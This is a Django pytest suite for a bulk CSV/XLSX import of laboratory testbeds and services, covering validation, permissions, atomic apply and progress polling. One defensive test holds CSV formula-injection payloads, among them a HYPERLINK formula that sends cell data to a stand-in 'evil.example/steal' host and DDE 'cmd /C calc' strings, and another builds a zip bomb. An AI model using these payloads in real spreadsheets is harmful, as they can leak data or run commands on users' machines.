"""Bulk import of testbeds and services from CSV and XLSX: check, preview, apply, progress."""

import csv
import io
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connections
from django.urls import reverse

from capabilities import models, services, tasks
from capabilities.enums import ImportStatus, MemberRole, Visibility
from capabilities.models import ImportJob, Service
from tests.factories import (
    ContactFactory,
    InstituteFactory,
    MembershipFactory,
    StaffFactory,
    TestbedFactory,
)
from tests.support import person

pytestmark = pytest.mark.django_db

FILES = Path(__file__).parent / "files"


@pytest.fixture
def institute():
    """QLAB rather than the suite's PTB: the file's keys, slugs and e-mails name it."""
    return InstituteFactory(acronym="QLAB")


@pytest.fixture
def member(institute):
    return MembershipFactory(institute=institute).user


@pytest.fixture
def fridge(institute):
    return TestbedFactory(institute=institute, name="Dilution fridge")


def start_url(institute):
    return reverse("capabilities:import_start", kwargs={"slug": institute.slug})


def upload(client, institute, name, content, kind="testbed"):
    if isinstance(content, str):
        content = content.encode()
    return client.post(
        start_url(institute), {"kind": kind, "file": SimpleUploadedFile(name, content)}
    )


def fixture_file(name) -> bytes:
    return (FILES / name).read_bytes()


def xlsx(rows) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def check(member, institute, content: str, kind="testbed") -> ImportJob:
    """import_check on CSV text, as the upload form reads it."""
    from capabilities import imports

    rows = imports.read_table(SimpleUploadedFile("f.csv", content.encode()), max_rows=5000)
    return services.import_check(
        actor=member, institute=institute, kind=kind, filename="f.csv", rows=rows
    )


def form_errors(response) -> str:
    return " ".join(str(e) for errors in response.context["form"].errors.values() for e in errors)


# --- Templates ---------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["testbed", "service"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_template_has_the_key_and_one_column_per_importable_field(client, kind, fmt):
    response = client.get(
        reverse("capabilities:import_template", kwargs={"kind": kind, "fmt": fmt})
    )
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    fields = services.TESTBED_FIELDS if kind == "testbed" else services.SERVICE_FIELDS
    expected = ["key", *fields, "technology_areas", "contacts"]
    if fmt == "csv":
        header, _example = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
        assert header == expected
    else:
        workbook = openpyxl.load_workbook(io.BytesIO(response.content))
        assert [cell.value for cell in workbook.worksheets[0][1]] == expected
        help_sheet = workbook.worksheets[1]
        explained = {row[0]: row[2] for row in help_sheet.iter_rows(min_row=2, values_only=True)}
        assert set(explained) == set(expected)
        assert "key" in explained["key"].lower()
        assert "20 mK" in explained.get("temperature_min_k", "20 mK")


def test_import_page_documents_the_key(client, member, institute):
    client.force_login(member)
    response = client.get(start_url(institute))
    assert response.status_code == 200
    assert "last part of its address" in response.content.decode()


# --- Good files --------------------------------------------------------------------------------


def test_good_csv_creates_and_updates_by_key_then_applies(client, member, institute, fridge):
    assert fridge.slug == "qlab-dilution-fridge"
    client.force_login(member)
    response = upload(client, institute, "testbeds.csv", fixture_file("testbeds_good.csv"))
    job = ImportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == job.get_absolute_url()
    assert (job.status, job.to_create, job.to_update) == (ImportStatus.VALIDATED, 1, 1)

    preview = client.get(job.get_absolute_url())
    assert preview.context["errors"] == []
    assert b'data-testid="to-create">1<' in preview.content
    assert b'data-testid="to-update">1<' in preview.content

    response = client.post(reverse("capabilities:import_apply", kwargs={"uuid": job.uuid}))
    assert response.status_code == 302
    job.refresh_from_db()
    assert job.status == ImportStatus.QUEUED
    services.import_apply(job=job)  # what the worker does (see the worker tests below)
    job.refresh_from_db()
    assert (job.status, job.processed, job.error) == (ImportStatus.DONE, 2, "")

    fridge.refresh_from_db()
    assert fridge.summary == "Now with a 20 mK base temperature."
    assert fridge.temperature_min_k == pytest.approx(0.02)
    assert fridge.temperature_max_k == 4
    assert (fridge.frequency_min_hz, fridge.frequency_max_hz) == (2e9, 12e9)
    assert fridge.access_modes == ["on_site", "remote"]
    assert fridge.audiences == ["industry", "academia"]
    assert fridge.si_traceable is True
    assert fridge.quantities == ["noise temperature", "attenuation"]
    assert str(fridge.readiness).startswith("TRL 7")
    assert (fridge.latitude, fridge.longitude) == (52.29, 10.46)
    assert {a.slug for a in fridge.technology_areas.all()} == {"cryogenics", "signal-delivery"}
    assert fridge.published, "an update keeps the record's publication state"

    bench = models.Testbed.objects.get(name="Cryogenic amplifier bench")
    assert bench.institute == institute
    assert not bench.published, "new records are drafts until published"
    assert bench.visibility == Visibility.MEMBERS
    assert bench.access_modes == ["send_in"]
    assert bench.status == "planned"
    assert bench.links == [
        {"title": "Bench page", "url": "https://qlab.example.org/bench"},
        {"title": "https://doi.org/10.1000/xyz", "url": "https://doi.org/10.1000/xyz"},
    ]
    assert (bench.temperature_min_k, bench.temperature_max_k) == (0.01, 300)
    event = bench.history.get()
    assert event.pgh_context.metadata["user"] == member.pk
    assert event.pgh_context.metadata["url"] == job.get_absolute_url()
    assert fridge.history.order_by("-pgh_id").first().pgh_context.metadata["user"] == member.pk


def test_good_xlsx_of_services_with_units_and_relations(client, member, institute, fridge):
    contact = ContactFactory(institute=institute, email="Photon@QLAB.example.org")
    columns = [
        "key",
        "name",
        "kind",
        "quantity",
        "range_lower",
        "range_upper",
        "range_unit",
        "uncertainty_mode",
        "uncertainty_lower",
        "uncertainty_upper",
        "uncertainty_unit",
        "coverage_factor",
        "confidence_level",
        "parameters",
        "testbed",
        "charging",
        "wavelength_min_nm",
        "wavelength_max_nm",
        "contacts",
        "technology_areas",
    ]
    content = xlsx(
        [
            columns,
            [
                None,
                "Optical power in fibre",
                "Calibration",
                "Optical power",
                0.001,
                10,
                "mW",
                "relative",
                0.2,
                0.5,
                "%",
                2,
                95,
                "wavelength = 1550 nm; fibre = SMF-28",
                fridge.slug,
                "commercial",
                "1.31 µm",
                "1625 nm",
                "photon@qlab.example.org",
                "single-photon-detectors",
            ],
        ]
    )
    client.force_login(member)
    response = upload(client, institute, "services.xlsx", content, kind="service")
    assert response.status_code == 302, form_errors(response)
    job = ImportJob.objects.get()
    assert job.rows[0]["errors"] == []
    services.import_queue(actor=member, job=job)
    services.import_apply(job=job)

    service = Service.objects.get()
    assert service.kind == "calibration"
    assert (service.range_lower, service.range_upper, service.range_unit) == (0.001, 10, "mW")
    assert service.range_base_upper == pytest.approx(0.01)  # 10 mW in W
    assert service.testbed == fridge
    assert str(service.coverage_factor) == "2.00"
    assert service.parameters == [
        {"name": "wavelength", "value": "1550 nm"},
        {"name": "fibre", "value": "SMF-28"},
    ]
    assert service.wavelength_min_nm == pytest.approx(1310)
    assert list(service.contacts.all()) == [contact]


def test_semicolon_separated_csv_is_read(member, institute):
    job = check(member, institute, 'key;name;access_modes\n;Clock lab;"on_site;remote"\n')
    assert job.rows[0]["values"] == {"name": "Clock lab", "access_modes": ["on_site", "remote"]}


def test_a_column_left_out_is_not_changed(member, institute, fridge):
    services.record_update(actor=StaffFactory(), record=fridge, version=None, city="Braunschweig")
    job = check(member, institute, f"key,name\n{fridge.slug},Renamed fridge\n")
    services.import_queue(actor=member, job=job)
    services.import_apply(job=job)
    fridge.refresh_from_db()
    assert (fridge.name, fridge.city) == ("Renamed fridge", "Braunschweig")


# --- Bad rows ----------------------------------------------------------------------------------


def test_every_bad_row_is_reported_with_row_column_and_reason(client, member, institute):
    client.force_login(member)
    response = upload(client, institute, "bad.csv", fixture_file("testbeds_bad.csv"))
    job = ImportJob.objects.get()
    assert response["Location"] == job.get_absolute_url()
    assert job.status == ImportStatus.FAILED
    errors = {
        (row["row"], error["column"]): error["message"]
        for row in job.rows
        for error in row["errors"]
    }
    assert set(errors) == {
        (3, "visibility"),
        (4, "temperature_min_k"),
        (5, "temperature_max_k"),
        (6, "longitude"),
        (7, "technology_areas"),
        (8, "key"),
        (9, "name"),
        (10, "status"),
        (11, "access_modes"),
        (11, "si_traceable"),
    }
    assert "everyone" in errors[3, "visibility"]
    assert "kg" in errors[4, "temperature_min_k"]
    assert "teleportation" in errors[7, "technology_areas"]
    assert "no-such-key" in errors[8, "key"]

    page = client.get(job.get_absolute_url()).content.decode()
    assert "This file cannot be applied" in page
    assert "teleportation" in page
    assert "Apply" not in page

    with pytest.raises(ValidationError):
        services.import_queue(actor=member, job=job)
    response = client.post(reverse("capabilities:import_apply", kwargs={"uuid": job.uuid}))
    job.refresh_from_db()
    assert job.status == ImportStatus.FAILED
    assert models.Testbed.objects.count() == 0, "not even the good row is saved"


def test_a_key_used_twice_and_a_key_of_another_institute_are_errors(member, institute, fridge):
    foreign = TestbedFactory(name="Foreign cryostat")
    job = check(
        member,
        institute,
        f"key,name\n{fridge.slug},A\n{fridge.slug},B\n{foreign.slug},C\n",
    )
    assert [(row["row"], [e["column"] for e in row["errors"]]) for row in job.rows] == [
        (2, []),
        (3, ["key"]),
        (4, ["key"]),
    ]


# --- Hostile and malformed files ---------------------------------------------------------------


def _zip(names, content="hello") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, content)
    return out.getvalue()


XLSX_PARTS = ["[Content_Types].xml", "xl/workbook.xml"]


HOSTILE = [
    ("picture.csv", fixture_file("picture.csv"), "binary data"),
    ("latin1.csv", "key,name\n,Caf\xe9\n".encode("latin-1"), "not UTF-8"),
    ("archive.xlsx", _zip(["readme.txt"]), "not an Excel workbook"),
    ("workbook.csv", xlsx([["key", "name"], [None, "x"]]), "binary data"),
    ("bomb.xlsx", _zip(XLSX_PARTS, content="0" * 30_000_000), "unpacks to too much data"),
    ("damaged.xlsx", _zip(XLSX_PARTS, content="<not xml"), "cannot be read"),
    ("notes.txt", b"key,name\n,x\n", "Upload a CSV"),
    ("empty.csv", b"", "empty"),
    ("blank.csv", b"\n\n  \n", "empty"),
    ("header.csv", b"key,name\n", "no rows"),
    ("nameless.csv", b"key,summary\n,x\n", "lacks the required columns: name"),
    ("extra.csv", b"key,name,colour\n,x,red\n", "does not know: colour"),
    ("quotes.csv", b'key,name\n,"never closed\n', "cannot be read"),
    ("wide.csv", b"key,name\n,x,surprise\n", "more cells"),
    ("twice.csv", b"key,name,name\n,x,y\n", "appears twice"),
]


@pytest.mark.parametrize(("name", "content", "message"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_or_malformed_file_is_refused_with_a_clear_message(
    client, member, institute, name, content, message
):
    client.force_login(member)
    response = upload(client, institute, name, content)
    assert response.status_code == 200
    assert message in form_errors(response)
    assert ImportJob.objects.count() == 0


def test_file_over_the_size_limit_is_refused(client, member, institute, settings):
    assert settings.IMPORT_MAX_BYTES == 5 * 1024 * 1024
    huge = b"key,name\n" + b",x\n" * (settings.IMPORT_MAX_BYTES // 3 + 1)
    client.force_login(member)
    response = upload(client, institute, "huge.csv", huge)
    assert "the limit is 5.0\xa0MB" in form_errors(response)
    assert ImportJob.objects.count() == 0


def test_file_over_the_row_limit_is_refused(client, member, institute, settings):
    settings.IMPORT_MAX_ROWS = 3
    client.force_login(member)
    response = upload(client, institute, "long.csv", "key,name\n" + ",x\n" * 4)
    assert "more than 3 rows" in form_errors(response)
    assert upload(client, institute, "ok.csv", "key,name\n" + ",x\n" * 3).status_code == 302


def test_formulas_are_stored_as_plain_text_never_evaluated(member, institute):
    from capabilities import imports

    text = fixture_file("testbeds_formulas.csv").decode()
    job = check(member, institute, text)
    services.import_queue(actor=member, job=job)
    services.import_apply(job=job)
    testbed = models.Testbed.objects.get()
    assert testbed.name == '=HYPERLINK("http://evil.example/steal?x="&A1,"Click")'
    assert testbed.summary == "+cmd|' /C calc'!A0"
    assert testbed.description == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert testbed.city == "-2+3"

    workbook = xlsx([["key", "name", "summary"], [None, "=1+1", '=HYPERLINK("x")']])
    rows = imports.read_table(SimpleUploadedFile("f.xlsx", workbook), max_rows=10)
    assert rows == [{"key": "", "name": "=1+1", "summary": '=HYPERLINK("x")'}]


# --- Permissions -------------------------------------------------------------------------------


@pytest.fixture
def checked_job(member, institute):
    return check(member, institute, "key,name\n,Clock lab\n")


@pytest.mark.parametrize(
    ("who", "allowed"),
    [
        ("anonymous", False),
        ("plain user", False),
        ("member of another institute", False),
        (MemberRole.EDITOR, True),
    ],
)
def test_only_members_of_the_institute_import(client, institute, checked_job, who, allowed):
    user = person(who, institute)
    if user is not None:
        client.force_login(user)
    uuid = {"uuid": checked_job.uuid}
    pages = [
        client.get(start_url(institute)),
        client.get(reverse("capabilities:import_detail", kwargs=uuid)),
        client.get(reverse("capabilities:import_progress", kwargs=uuid)),
    ]
    posted = upload(client, institute, "more.csv", "key,name\n,Another lab\n")
    applied = client.post(reverse("capabilities:import_apply", kwargs=uuid))
    checked_job.refresh_from_db()
    if allowed:
        assert [page.status_code for page in pages] == [200, 200, 200]
        assert posted.status_code == 302
        assert ImportJob.objects.count() == 2
        assert checked_job.status == ImportStatus.QUEUED
    else:
        expected = 302 if who == "anonymous" else 403
        assert [page.status_code for page in [*pages, posted, applied]] == [expected] * 5
        assert ImportJob.objects.count() == 1
        assert checked_job.status == ImportStatus.VALIDATED
    assert models.Testbed.objects.count() == 0


def test_services_refuse_outsiders(institute, checked_job):
    outsider = MembershipFactory().user
    with pytest.raises(PermissionDenied):
        services.import_check(
            actor=outsider, institute=institute, kind="testbed", filename="f.csv", rows=[]
        )
    with pytest.raises(PermissionDenied):
        services.import_queue(actor=outsider, job=checked_job)


def test_an_import_runs_as_its_uploader_who_must_still_be_a_member(member, checked_job):
    services.import_queue(actor=member, job=checked_job)
    member.memberships.all().delete()
    job = services.import_apply(job=checked_job)
    assert job.status == ImportStatus.FAILED
    assert "may no longer change the records of QLAB" in job.error
    assert models.Testbed.objects.count() == 0


# --- All or nothing, once ----------------------------------------------------------------------


def test_a_row_failing_at_apply_time_leaves_nothing(member, institute, fridge):
    job = check(
        member,
        institute,
        f"key,name\n,First new\n,Second new\n{fridge.slug},Renamed fridge\n,Third new\n",
    )
    assert job.status == ImportStatus.VALIDATED
    services.import_queue(actor=member, job=job)
    # Someone edits the fridge between the check and the apply.
    services.record_update(actor=StaffFactory(), record=fridge, version=None, city="Berlin")

    job = services.import_apply(job=job)
    assert job.status == ImportStatus.FAILED
    assert "Row 4" in job.error
    assert fridge.slug in job.error
    assert job.processed == 0
    assert job.finished_at is not None
    assert list(models.Testbed.objects.values_list("name", flat=True)) == ["Dilution fridge"]
    fridge.refresh_from_db()
    assert fridge.city == "Berlin"


def test_applying_again_does_nothing(member, institute, checked_job):
    services.import_queue(actor=member, job=checked_job)
    services.import_apply(job=checked_job)
    finished = ImportJob.objects.get().finished_at
    services.import_apply(job=checked_job)
    assert services.import_queue(actor=member, job=checked_job).status == ImportStatus.DONE
    tasks.apply_import(checked_job.pk)
    assert models.Testbed.objects.count() == 1
    assert ImportJob.objects.get().finished_at == finished


def test_a_job_that_was_never_queued_is_not_applied(checked_job):
    assert services.import_apply(job=checked_job).status == ImportStatus.VALIDATED
    assert models.Testbed.objects.count() == 0


def test_sweep_queues_again_what_waited_too_long(member, checked_job):
    from datetime import timedelta

    from django.utils import timezone

    services.import_queue(actor=member, job=checked_job)
    assert services.import_sweep() == 0
    ImportJob.objects.update(created_at=timezone.now() - timedelta(hours=1))
    assert services.import_sweep() == 1


# --- Preview and progress pages ----------------------------------------------------------------


@pytest.mark.parametrize("bad", [False, True], ids=["rows", "errors"])
def test_preview_queries_are_constant_in_rows_shown(
    client, member, institute, django_assert_num_queries, bad
):
    client.force_login(member)
    cell = "everyone" if bad else "public"

    def preview(count):
        job = check(member, institute, "key,name,visibility\n" + f",x,{cell}\n" * count)
        return job.get_absolute_url()

    few, many = preview(3), preview(120)
    with django_assert_num_queries(
        5
    ) as captured:  # session, user, job, roles, unread + review menu
        response = client.get(few)
    assert len(response.context["page"].object_list) == 3
    with django_assert_num_queries(len(captured.captured_queries)):
        response = client.get(many)
    assert len(response.context["page"].object_list) == 50
    assert response.context["page"].paginator.count == 120


def test_progress_partial_polls_while_running_and_stops_when_done(
    client, member, institute, checked_job
):
    client.force_login(member)
    url = reverse("capabilities:import_progress", kwargs={"uuid": checked_job.uuid})
    services.import_queue(actor=member, job=checked_job)
    queued = client.get(url, headers={"HX-Request": "true"}).content.decode()
    assert 'hx-trigger="every 1s"' in queued
    assert "0 of 1 rows saved" in queued
    assert "<html" not in queued
    services.import_apply(job=checked_job)
    done = client.get(url, headers={"HX-Request": "true"}).content.decode()
    assert "hx-trigger" not in done
    assert "Applied" in done


# --- Through a real Celery worker ---------------------------------------------------------------


def _eventually(predicate, timeout=60.0):
    deadline = time.monotonic() + timeout
    while not predicate():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.05)


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_a_500_row_file_applies_through_a_worker_with_progress(client, celery_worker, task_waiter):
    institute = InstituteFactory(acronym="BIGLAB", slug="biglab")
    member = MembershipFactory(institute=institute).user
    blocker = TestbedFactory(institute=institute, name="Blocker")
    lines = ["key,name,temperature_min_k,temperature_max_k,technology_areas"]
    for n in range(1, 501):
        key = blocker.slug if n == 301 else ""
        lines.append(f"{key},Testbed {n:03d},{n} mK,{n} K,cryogenics")
    client.force_login(member)
    response = upload(client, institute, "big.csv", "\n".join(lines) + "\n")
    assert response.status_code == 302, form_errors(response)
    job = ImportJob.objects.get()
    assert (job.to_create, job.to_update) == (499, 1)

    # Another session holds the row of the 301st record: the import stops there, mid-way.
    other = connections.create_connection("default")
    try:
        other.set_autocommit(False)
        with other.cursor() as cursor:
            cursor.execute(
                "SELECT id FROM capabilities_testbed WHERE id = %s FOR UPDATE", [blocker.pk]
            )
        client.post(reverse("capabilities:import_apply", kwargs={"uuid": job.uuid}))
        progress_url = reverse("capabilities:import_progress", kwargs={"uuid": job.uuid})
        _eventually(lambda: ImportJob.objects.get().processed == 300)
        partial = client.get(progress_url, headers={"HX-Request": "true"}).content.decode()
        assert "Running" in partial
        assert "300 of 500 rows saved" in partial
        assert 'aria-valuenow="60"' in partial
        assert models.Testbed.objects.filter(institute=institute).count() == 1, (
            "nothing lands early"
        )
    finally:
        other.rollback()
        other.close()

    task_waiter.wait_for(tasks.apply_import.name, timeout=120)
    job.refresh_from_db()
    assert (job.status, job.processed, job.error) == (ImportStatus.DONE, 500, "")
    assert models.Testbed.objects.filter(institute=institute).count() == 500
    partial = client.get(progress_url, headers={"HX-Request": "true"}).content.decode()
    assert "all 500 rows were saved" in partial
    assert "hx-trigger" not in partial


def test_progress_queries_do_not_grow_with_the_file(
    client, member, institute, django_assert_num_queries
):
    client.force_login(member)
    small = check(member, institute, "key,name\n,x\n")
    large = check(member, institute, "key,name\n" + ",x\n" * 200)
    with django_assert_num_queries(4) as captured:  # session, user, job, roles
        client.get(reverse("capabilities:import_progress", kwargs={"uuid": small.uuid}))
    assert '"rows"' not in captured.captured_queries[2]["sql"], "the rows are never loaded"
    with django_assert_num_queries(4):
        client.get(reverse("capabilities:import_progress", kwargs={"uuid": large.uuid}))
